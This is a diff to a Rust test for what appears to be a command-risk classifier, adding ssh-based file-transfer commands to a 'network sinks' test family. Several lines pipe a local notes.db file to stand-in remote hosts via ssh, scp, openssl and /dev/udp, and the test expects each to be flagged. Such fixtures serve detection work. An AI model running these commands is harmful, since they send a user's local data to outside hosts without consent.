@@ -485,6 +485,8 @@ fn family_4_network_sinks() {
         "cat notes.db > /dev/udp/x.example/53",
         "openssl s_client -connect x.example:443 < notes.db",
         "scp notes.db u@new.example:",
+        "ssh new.example cat < notes.db",
+        "cat notes.db | ssh new.example 'cat > x'",
     ] {
         t.at_least(command, External);
     }
@@ -520,6 +522,7 @@ fn family_4_network_sinks() {
         t.at_least(command, Critical);
     }
     t.check("dig example.com", Green);
+    t.check("ssh host 'uptime' < /dev/null", Yellow);
     t.check("ping -c 3 example.com", Green);
     t.check("host shop.example.com", Green);
     t.check("curl https://example.com", Yellow);
